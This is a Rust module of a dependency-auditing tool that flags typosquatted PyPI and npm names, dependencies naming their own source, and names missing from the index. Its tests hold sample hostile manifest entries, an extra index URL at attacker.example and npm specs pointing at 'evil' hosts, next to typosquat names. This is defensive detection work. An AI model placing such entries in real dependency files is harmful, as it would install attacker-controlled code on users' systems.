//! A skill's declared dependencies (`requirements.txt`, `pyproject.toml`:
//! [`skilldeck::environment::parse_dependencies`]) as audit findings:
//!
//! - `deps.shadows-well-known`: a requirement whose name is one edit (a
//!   letter added, dropped, changed, or two swapped) from a well-known
//!   package's ([`WELL_KNOWN`]) without being it: `reqeusts`, `numpyy`.
//!   A typosquat installs someone else's code with the skill;
//! - `deps.source-override`: a line that names its own source (an index
//!   option, a URL, a path): packages from outside the operator's index.
//!   `install` refuses such a skill; the audit says so before.
//!
//! `package.json`'s `dependencies` and `optionalDependencies` the same way:
//! a name one edit from a well-known npm package's ([`WELL_KNOWN_NPM`]),
//! a spec that names its source (git, `github:`, a URL, `file:`, `npm:`
//! alias, `user/repo`) or `bundleDependencies`.
//!
//! - `deps.not-on-index`: with an [`IndexCheck`] (the caller named an
//!   index), a declared name the index does not have: a name nobody owns
//!   there can be registered by anyone later (dependency confusion);
//!   `deps.index-lookup-failed` when the index could not say.
//!
//! Without an [`IndexCheck`] the audit does not reach the network.

use std::path::Path;

use crate::finding::Finding;
use crate::index::{Ecosystem, IndexCheck, Lookup};
use crate::rules::rule_of;

/// Well-known PyPI distributions (normalised names): among the most
/// downloaded, and those skills import most. A requirement one edit away
/// from one of these, and not itself one, is a finding.
pub const WELL_KNOWN: &[&str] = &[
    "aiohttp",
    "anthropic",
    "anyio",
    "attrs",
    "azure-core",
    "bcrypt",
    "beautifulsoup4",
    "boto3",
    "botocore",
    "certifi",
    "cffi",
    "charset-normalizer",
    "click",
    "colorama",
    "cryptography",
    "decorator",
    "django",
    "docker",
    "docutils",
    "elasticsearch",
    "fastapi",
    "filelock",
    "flask",
    "google-api-core",
    "google-cloud-storage",
    "greenlet",
    "grpcio",
    "httpcore",
    "httpx",
    "idna",
    "itsdangerous",
    "jinja2",
    "jmespath",
    "keyring",
    "kubernetes",
    "langchain",
    "langchain-core",
    "lxml",
    "markdown",
    "markupsafe",
    "matplotlib",
    "multidict",
    "networkx",
    "numpy",
    "oauthlib",
    "openai",
    "openpyxl",
    "orjson",
    "packaging",
    "pandas",
    "paramiko",
    "pillow",
    "pip",
    "platformdirs",
    "polars",
    "protobuf",
    "psutil",
    "psycopg2",
    "psycopg2-binary",
    "pyarrow",
    "pyasn1",
    "pycparser",
    "pydantic",
    "pygments",
    "pyjwt",
    "pymongo",
    "pynacl",
    "pyopenssl",
    "pyparsing",
    "pypdf",
    "pytest",
    "python-dateutil",
    "python-dotenv",
    "pytz",
    "pyyaml",
    "redis",
    "regex",
    "requests",
    "requests-oauthlib",
    "rich",
    "rsa",
    "s3transfer",
    "scikit-learn",
    "scipy",
    "selenium",
    "setuptools",
    "simplejson",
    "six",
    "sqlalchemy",
    "starlette",
    "sympy",
    "tiktoken",
    "toml",
    "tomli",
    "torch",
    "tqdm",
    "transformers",
    "typing-extensions",
    "tzdata",
    "ujson",
    "urllib3",
    "uvicorn",
    "virtualenv",
    "websocket-client",
    "websockets",
    "werkzeug",
    "wheel",
    "wrapt",
    "xlrd",
    "yarl",
];

/// Well-known npm packages: among the most downloaded, and those skills'
/// scripts import most. A dependency one edit away from one of these, and
/// not itself one, is a finding.
pub const WELL_KNOWN_NPM: &[&str] = &[
    "@anthropic-ai/sdk",
    "axios",
    "body-parser",
    "chalk",
    "cheerio",
    "commander",
    "cross-env",
    "dayjs",
    "debug",
    "dotenv",
    "express",
    "glob",
    "inquirer",
    "jsonwebtoken",
    "lodash",
    "minimist",
    "moment",
    "mongoose",
    "node-fetch",
    "nodemailer",
    "openai",
    "playwright",
    "puppeteer",
    "react",
    "request",
    "rimraf",
    "semver",
    "typescript",
    "underscore",
    "uuid",
    "webpack",
    "yargs",
    "zod",
];

/// Shortest name compared with [`WELL_KNOWN`]: below it one edit turns
/// most short names into another real one (`six`/`sic`).
pub const MIN_TYPOSQUAT_CHARS: usize = 4;

/// The findings of the skill's dependency files (`files`: path and text
/// of the skill's files, `/`-separated paths); with `index`, each
/// declared name is looked up on it.
pub(crate) fn findings(files: &[(&str, &str)], index: Option<&IndexCheck>) -> Vec<Finding> {
    let text_of = |name: &str| files.iter().find(|(p, _)| *p == name).map(|(_, t)| *t);
    let requirements_txt = text_of(skilldeck::environment::REQUIREMENTS_TXT);
    let pyproject = text_of(skilldeck::environment::PYPROJECT_TOML);
    let mut out = Vec::new();
    if let Some(text) = text_of(skilldeck::environment::PACKAGE_JSON) {
        node_findings(text, index, &mut out);
    }
    if requirements_txt.is_none() && pyproject.is_none() {
        return out;
    }
    // requirements.txt line by line, so a refused line does not hide a
    // typosquat on another; pyproject.toml as a whole.
    let mut units: Vec<(&str, u32, Option<&str>, Option<&str>)> = Vec::new();
    if let Some(text) = requirements_txt {
        for (i, line) in text.lines().enumerate() {
            let n = u32::try_from(i + 1).unwrap_or(u32::MAX);
            units.push((
                skilldeck::environment::REQUIREMENTS_TXT,
                n,
                Some(line),
                None,
            ));
        }
    }
    if let Some(text) = pyproject {
        units.push((skilldeck::environment::PYPROJECT_TOML, 0, None, Some(text)));
    }
    for (file, line_no, req_line, pyproject) in units {
        match skilldeck::environment::parse_dependencies(Path::new(""), req_line, pyproject) {
            Ok(None) => {}
            Ok(Some(deps)) => {
                for r in &deps.requirements {
                    let line = if line_no > 0 { line_no } else { r.line };
                    if let Some(index) = index {
                        on_index(
                            index,
                            Ecosystem::Python,
                            &r.name,
                            &r.file,
                            line,
                            &r.text,
                            &mut out,
                        );
                    }
                    if let Some(known) = shadowed(&r.name) {
                        out.push(finding(
                            "deps.shadows-well-known",
                            &r.file,
                            line,
                            &r.text,
                            format!(
                                "requirement '{}' is one letter away from the well-known \
                                 package '{known}': a typosquat would install someone else's code",
                                r.text
                            ),
                        ));
                    }
                }
            }
            Err(problems) => {
                for d in problems {
                    let line = if line_no > 0 {
                        line_no
                    } else {
                        d.line.unwrap_or(1)
                    };
                    let text = req_line
                        .or_else(|| {
                            pyproject.and_then(|t| t.lines().nth(line.saturating_sub(1) as usize))
                        })
                        .unwrap_or_default()
                        .trim();
                    if names_a_source(text) {
                        out.push(finding(
                            "deps.source-override",
                            file,
                            line,
                            text,
                            format!(
                                "'{text}' names its own package source: install refuses it \
                                 (the operator chooses the index)"
                            ),
                        ));
                    }
                }
            }
        }
    }
    out
}

/// The findings of `package.json` (`text`): each dependency on its own,
/// so a refused spec does not hide a typosquat on another.
fn node_findings(text: &str, index: Option<&IndexCheck>, out: &mut Vec<Finding>) {
    use skilldeck::environment::{PACKAGE_JSON, json_key_line, npm_spec_source};
    let Ok(serde_json::Value::Object(manifest)) = serde_json::from_str(text) else {
        return;
    };
    for key in ["bundleDependencies", "bundledDependencies"] {
        let bundles = match manifest.get(key) {
            Some(serde_json::Value::Array(a)) => !a.is_empty(),
            Some(serde_json::Value::Bool(b)) => *b,
            _ => false,
        };
        if bundles {
            out.push(finding(
                "deps.source-override",
                PACKAGE_JSON,
                json_key_line(text, None, key),
                key,
                format!(
                    "'{key}' ships packages inside the skill itself: install refuses it (the \
                     operator chooses the registry)"
                ),
            ));
        }
    }
    for section in ["dependencies", "optionalDependencies"] {
        let Some(serde_json::Value::Object(deps)) = manifest.get(section) else {
            continue;
        };
        for (name, spec) in deps {
            let line = json_key_line(text, Some(section), name);
            let spec = spec.as_str().unwrap_or_default();
            let evidence = format!("\"{name}\": \"{spec}\"");
            let source = npm_spec_source(spec);
            // A spec with its own source is not fetched from the registry.
            if let (Some(index), None) = (index, source) {
                on_index(
                    index,
                    Ecosystem::Npm,
                    name,
                    PACKAGE_JSON,
                    line,
                    &evidence,
                    out,
                );
            }
            if let Some(what) = source {
                out.push(finding(
                    "deps.source-override",
                    PACKAGE_JSON,
                    line,
                    &evidence,
                    format!(
                        "dependency '{name}' is {what} ('{spec}'): install refuses it (the \
                         operator chooses the registry)"
                    ),
                ));
            }
            if let Some(known) = shadowed_npm(name) {
                out.push(finding(
                    "deps.shadows-well-known",
                    PACKAGE_JSON,
                    line,
                    &evidence,
                    format!(
                        "dependency '{name}' is one letter away from the well-known npm package \
                         '{known}': a typosquat would install someone else's code"
                    ),
                ));
            }
        }
    }
}

/// The well-known npm name `name` is one edit from, when it is not one
/// itself.
pub fn shadowed_npm(name: &str) -> Option<&'static str> {
    if name.chars().count() < MIN_TYPOSQUAT_CHARS || WELL_KNOWN_NPM.contains(&name) {
        return None;
    }
    WELL_KNOWN_NPM
        .iter()
        .copied()
        .filter(|k| k.chars().count() >= MIN_TYPOSQUAT_CHARS)
        .find(|k| one_edit(name.as_bytes(), k.as_bytes()))
}

/// Looks `name` up on `index`: a finding when the index does not have it
/// (`deps.not-on-index`) or could not say (`deps.index-lookup-failed`).
fn on_index(
    index: &IndexCheck,
    eco: Ecosystem,
    name: &str,
    file: &str,
    line: u32,
    evidence: &str,
    out: &mut Vec<Finding>,
) {
    let what = match eco {
        Ecosystem::Python => "requirement",
        Ecosystem::Npm => "dependency",
    };
    match index.lookup(eco, name) {
        None | Some(Lookup::Found) => {}
        Some(Lookup::NotFound { asked }) => out.push(finding(
            "deps.not-on-index",
            file,
            line,
            evidence,
            format!(
                "{what} '{name}' is not on the package index ({asked}): anyone can register \
                 that name there later, and the next install would run their code"
            ),
        )),
        Some(Lookup::Failed { reason }) => out.push(finding(
            "deps.index-lookup-failed",
            file,
            line,
            evidence,
            format!("{what} '{name}' could not be looked up on the package index: {reason}"),
        )),
    }
}

fn names_a_source(line: &str) -> bool {
    line.starts_with('-')
        || line.contains("://")
        || line.contains(" @")
        || line.contains("@ ")
        || line.starts_with('.')
        || line.starts_with('/')
}

/// The well-known name `name` is one edit from, when it is not one itself.
pub fn shadowed(name: &str) -> Option<&'static str> {
    if name.chars().count() < MIN_TYPOSQUAT_CHARS || WELL_KNOWN.contains(&name) {
        return None;
    }
    WELL_KNOWN
        .iter()
        .copied()
        .filter(|k| k.chars().count() >= MIN_TYPOSQUAT_CHARS)
        .find(|k| one_edit(name.as_bytes(), k.as_bytes()))
}

/// True when `a` becomes `b` by one insertion, deletion, substitution or
/// swap of two neighbours (and `a != b`).
fn one_edit(a: &[u8], b: &[u8]) -> bool {
    if a == b {
        return false;
    }
    match a.len() as isize - b.len() as isize {
        0 => {
            let diff: Vec<usize> = (0..a.len()).filter(|&i| a[i] != b[i]).collect();
            diff.len() == 1
                || (diff.len() == 2
                    && diff[1] == diff[0] + 1
                    && a[diff[0]] == b[diff[1]]
                    && a[diff[1]] == b[diff[0]])
        }
        1 => deletes_to(a, b),
        -1 => deletes_to(b, a),
        _ => false,
    }
}

/// True when deleting one byte of `long` gives `short`.
fn deletes_to(long: &[u8], short: &[u8]) -> bool {
    let i = long.iter().zip(short).take_while(|(x, y)| x == y).count();
    long[i + 1..] == short[i..]
}

fn finding(code: &'static str, file: &str, line: u32, evidence: &str, message: String) -> Finding {
    let rule = rule_of(code);
    Finding {
        code: code.to_owned(),
        severity: rule.map_or(crate::finding::Severity::High, |r| r.severity),
        class: rule.map_or(crate::finding::Class::FakePrerequisite, |r| r.class),
        file: file.to_owned(),
        line: Some(line),
        column: Some(1),
        evidence: evidence.chars().take(200).collect(),
        message,
        help: rule.map(|r| r.help.to_owned()),
        allowed: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_one_edit_from_a_well_known_package_is_a_finding() {
        for (typo, known) in [
            ("reqeusts", "requests"),
            ("requets", "requests"),
            ("requestss", "requests"),
            ("numpi", "numpy"),
            ("python-dateutils", "python-dateutil"),
        ] {
            assert_eq!(shadowed(typo), Some(known), "{typo}");
        }
        for fine in [
            "requests",
            "six",
            "sic",
            "numpy",
            "my-internal-tool",
            "urllib3",
        ] {
            assert_eq!(shadowed(fine), None, "{fine}");
        }
    }

    #[test]
    fn typosquats_and_source_overrides_are_found_at_their_line() {
        let f = findings(
            &[(
                "requirements.txt",
                "requests\nreqeusts==2.0\n--extra-index-url https://attacker.example/simple\n",
            )],
            None,
        );
        let got: Vec<(&str, Option<u32>)> = f.iter().map(|f| (f.code.as_str(), f.line)).collect();
        assert_eq!(
            got,
            [
                ("deps.shadows-well-known", Some(2)),
                ("deps.source-override", Some(3))
            ]
        );
        let f = findings(&[("requirements.txt", "requests\nreqeusts==2.0\n")], None);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].code, "deps.shadows-well-known");
        assert_eq!(f[0].line, Some(2));
        let f = findings(
            &[(
                "pyproject.toml",
                "[project]\ndependencies = [\"numpyy>=1\"]\n",
            )],
            None,
        );
        assert_eq!(f[0].code, "deps.shadows-well-known");
        assert_eq!(f[0].file, "pyproject.toml");
    }

    #[test]
    fn npm_typosquats_and_source_overrides_are_found_at_their_package_json_line() {
        let text = "{\n  \"name\": \"x\",\n  \"dependencies\": {\n    \"lodahs\": \"^4.17.0\",\n    \
                    \"is-odd\": \"github:evil/is-odd\",\n    \"express\": \"^4\"\n  },\n  \
                    \"optionalDependencies\": { \"left\": \"git+https://evil.example/x.git\" },\n  \
                    \"bundleDependencies\": [\"is-odd\"]\n}\n";
        let f = findings(&[("package.json", text)], None);
        let got: Vec<(&str, Option<u32>)> = f.iter().map(|f| (f.code.as_str(), f.line)).collect();
        assert_eq!(
            got,
            [
                ("deps.source-override", Some(9)),
                ("deps.source-override", Some(5)),
                ("deps.shadows-well-known", Some(4)),
                ("deps.source-override", Some(8)),
            ],
            "{f:#?}"
        );
        assert!(f.iter().all(|f| f.file == "package.json"));
        assert_eq!(shadowed_npm("express"), None);
        assert_eq!(shadowed_npm("expresss"), Some("express"));
    }
}
